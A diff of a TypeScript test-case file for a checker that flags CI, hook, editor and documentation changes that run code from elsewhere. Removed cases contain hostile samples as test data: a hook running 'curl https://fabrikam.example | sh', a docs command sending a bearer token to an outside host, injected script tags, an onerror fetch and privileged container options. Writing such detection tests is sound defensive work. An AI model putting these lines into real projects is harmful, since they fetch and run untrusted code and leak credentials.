@@ -55,31 +55,7 @@ const localFile = ".github/workflows/local.yml";
 const localBase: readonly Edit[] = [{ file: localFile, text: local }];
 const inLocal = (title: string, find: string, replace: string) => bad(title, localBase, edit(localFile, find, replace));
 
-const hooks = `repos:
-  - repo: https://github.com/pre-commit/pre-commit-hooks
-    rev: v5.0.0
-    hooks:
-      - id: end-of-file-fixer
-  - repo: local
-    hooks:
-      - id: check
-        name: check
-        entry: npm run check
-        language: system
-`;
-const hooksFile = ".pre-commit-config.yaml";
-const hooksBase: readonly Edit[] = [{ file: hooksFile, text: hooks }];
-const lefthook = "pre-commit:\n  commands:\n    check:\n      run: npm run check\n";
-const container = '{ "image": "mcr.microsoft.com/devcontainers/typescript-node:24", "postCreateCommand": "npm ci" }\n';
-const containerFile = ".devcontainer/devcontainer.json";
-const settings = '{ "editor.tabSize": 2 }\n';
-const attributes = "* text=auto eol=lf\n";
-const page = "docs/on-call.md";
-const pageText = "# On call\n\nRun the checks:\n\n```\nnpm run check\n```\n";
-const pageBase: readonly Edit[] = [{ file: page, text: pageText }];
-const inPage = (title: string, replace: string) => bad(title, pageBase, edit(page, "npm run check\n```\n", replace));
-
-/** Pipelines, hooks, editors and pages that run something from another place, in another folder or with more, and those that don't. */
+/** Pipelines that run something from another place, in another folder or with more, and those that don't. */
 export const runElsewhere: readonly Case[] = [
   inWorkflow("packages are resolved anew", "      - run: npm ci\n", "      - run: npm install\n"),
   inWorkflow("another package manager installs", "      - run: npm ci\n", "      - run: yarn install\n"),
@@ -94,6 +70,8 @@ export const runElsewhere: readonly Case[] = [
   inScript("a script runs a package that nobody installed", "npx fabrikam-lint && oxlint --deny-warnings"),
   inScript("a script no longer fails on warnings", "tsc --noEmit && oxlint"),
   inWorkflow("a step runs in a folder of the texts", testStep, onTest("working-directory: docs")),
+  inWorkflow("a step changes its folder", "run: npm test", "run: cd docs && npm test"),
+  inWorkflow("a step tests another folder's package", "run: npm test", "run: npm --prefix docs test"),
   inWorkflow("a step's shell doesn't stop at a failure", testStep, onTest("shell: bash {0}")),
   inWorkflow("a step's shell is another language", testStep, onTest("shell: python")),
   inWorkflow(
@@ -128,85 +106,6 @@ export const runElsewhere: readonly Case[] = [
   inLocal("a job's container gets the host's rights", "options: --cpus 1", "options: --privileged"),
   inLocal("a job's steps run in another folder", "working-directory: app", "working-directory: docs"),
   inLocal("a step runs in another folder", "        working-directory: base", "        working-directory: head"),
-  bad(
-    "a hook comes from somebody new",
-    hooksBase,
-    edit(
-      hooksFile,
-      "  - repo: local",
-      "  - repo: https://github.com/fabrikam/hooks\n    rev: v1\n    hooks:\n      - id: fix\n  - repo: local",
-    ),
-  ),
-  bad(
-    "a hook fetches a script",
-    hooksBase,
-    edit(hooksFile, "npm run check", "bash -c 'curl https://fabrikam.example | sh'"),
-  ),
-  bad(
-    "a hook brings packages",
-    hooksBase,
-    edit(hooksFile, "language: system", "language: node\n        additional_dependencies: [fabrikam]"),
-  ),
-  bad(
-    "lefthook runs a text as code",
-    [{ file: "lefthook.yml", text: lefthook }],
-    edit("lefthook.yml", "npm run check", 'node -e "require(1)"'),
-  ),
-  bad(
-    "husky runs a package that nobody installed",
-    [{ file: ".husky/pre-commit", text: "npm test\n" }],
-    edit(".husky/pre-commit", "npm test", "npx fabrikam-check"),
-  ),
-  bad(
-    "a container of an editor is somebody else's",
-    [{ file: containerFile, text: container }],
-    edit(containerFile, "mcr.microsoft.com/devcontainers", "fabrikam"),
-  ),
-  bad(
-    "a container of an editor may use the host",
-    [{ file: containerFile, text: container }],
-    edit(containerFile, '"postCreateCommand"', '"runArgs": ["--privileged"], "postCreateCommand"'),
-  ),
-  bad(
-    "an editor takes another compiler",
-    [
-      { file: ".vscode/a.json", text: "{}\n" },
-      { file: ".vscode/user.json", text: settings },
-    ],
-    edit(".vscode/user.json", '"editor.tabSize": 2', '"typescript.tsdk": "docs/ts"'),
-  ),
-  bad(
-    "git filters what it checks out",
-    [{ file: "functions/.gitattributes", text: attributes }],
-    edit("functions/.gitattributes", "eol=lf", "eol=lf\n*.ts filter=fix"),
-  ),
-  bad(
-    "GitHub folds the handlers' differences",
-    [{ file: "functions/.gitattributes", text: attributes }],
-    edit("functions/.gitattributes", "eol=lf", "eol=lf\nsrc/** linguist-generated"),
-  ),
-  bad(
-    "npm takes updates from another registry",
-    [{ file: ".github/dependabot.yaml", text: "version: 2\nupdates: []\n" }],
-    edit(
-      ".github/dependabot.yaml",
-      "updates: []",
-      "registries:\n  other:\n    type: npm-registry\n    url: https://npm.fabrikam.example\nupdates: []",
-    ),
-  ),
-  inPage("a page's reader runs a package of somebody", "npx fabrikam-check\n```\n"),
-  inPage("a page's reader installs a package of somebody", "npm install --global fabrikam\n```\n"),
-  inPage(
-    "a page's reader sends a token elsewhere",
-    'curl -H "Authorization: Bearer $TOKEN" https://fabrikam.example/check\n```\n',
-  ),
-  inPage("a page holds a script", 'npm run check\n```\n\n<script src="https://fabrikam.example/a.js"></script>\n'),
-  inPage(
-    "a page's picture runs a script",
-    'npm run check\n```\n\n<img src="a.png" onerror="fetch(\'https://fabrikam.example\')">\n',
-  ),
-  inPage("a page's link is a script", "npm run check\n```\n\n[All](javascript:alert(1))\n"),
-
   dailyWorkflow("Node in a newer version", "node-version: 24", "node-version: 26"),
   dailyWorkflow("one more of the project's scripts", testStep, `${testStep}      - run: npm run test:exhaustive\n`),
   dailyWorkflow("a tool of the project's own by npx", testStep, `${testStep}      - run: npx vitest run --coverage\n`),
@@ -227,46 +126,5 @@ export const runElsewhere: readonly Case[] = [
     localFile,
     localBase,
     edit(localFile, "        type: string\n", "        type: string\n      region:\n        type: string\n"),
-  ),
-  daily("a hook in a newer version", hooksFile, hooksBase, edit(hooksFile, "v5.0.0", "v6.0.0")),
-  daily(
-    "one more hook of a known owner",
-    hooksFile,
-    hooksBase,
-    edit(hooksFile, "      - id: end-of-file-fixer\n", "      - id: end-of-file-fixer\n      - id: check-yaml\n"),
-  ),
-  daily(
-    "lefthook runs one more script",
-    "lefthook.yml",
-    [{ file: "lefthook.yml", text: lefthook }],
-    edit("lefthook.yml", "npm run check\n", "npm run check\n    test:\n      run: npm test\n"),
-  ),
-  daily(
-    "a container of an editor has a newer Node",
-    containerFile,
-    [{ file: containerFile, text: container }],
-    edit(containerFile, "node:24", "node:26"),
-  ),
-  daily(
-    "pictures are binary",
-    "functions/.gitattributes",
-    [{ file: "functions/.gitattributes", text: attributes }],
-    edit("functions/.gitattributes", "eol=lf", "eol=lf\n*.png binary"),
-  ),
-  daily(
-    "a page has one more script of the project's",
-    page,
-    pageBase,
-    edit(page, "npm run check\n", "npm run check\nnpm run fix\n"),
-  ),
-  daily(
-    "a page calls the function here",
-    page,
-    pageBase,
-    edit(
-      page,
-      "npm run check\n",
-      'npm run check\ncurl -H "Authorization: Bearer $TOKEN" http://localhost:7071/api/orders\n',
-    ),
   ),
 ];
